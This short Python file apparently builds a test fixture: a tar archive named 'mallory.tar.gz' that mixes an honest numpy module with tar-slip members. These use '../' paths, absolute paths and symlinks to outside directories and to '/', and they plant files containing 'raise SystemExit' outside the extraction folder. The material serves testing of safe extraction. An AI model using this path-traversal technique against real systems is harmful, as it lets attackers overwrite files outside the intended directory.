"""A tar slip beside honest work."""

import io
import tarfile
from pathlib import Path

HONEST = """import numpy as np


def double(x):
    return 2 * np.asarray(x)


def total(values):
    return float(np.sum(values))


def classify(X):
    return (np.asarray(X).sum(axis=1) > 0).astype(float)


def step(w, g):
    return w - 0.1 * g


def halve(t):
    return t / 2
"""


def build(folder: Path) -> None:
    """Go up, go down from the root, and go through a door."""
    out = folder.parent / "open"
    with tarfile.open(folder / "mallory.tar.gz", "w:gz") as archive:
        for target in (str(out), "../../open", "/"):
            door = tarfile.TarInfo("door")
            door.type, door.linkname = tarfile.SYMTYPE, target
            archive.addfile(door)
        names = [
            "../../open/up.py",
            f"{out}/absolute.py",
            "door/planted.py",
            "door/open/planted.py",
        ]
        for name in [*names, "vault.py"]:
            content = HONEST.encode() if name == "vault.py" else b"raise SystemExit"
            member = tarfile.TarInfo(name)
            member.size = len(content)
            archive.addfile(member, io.BytesIO(content))
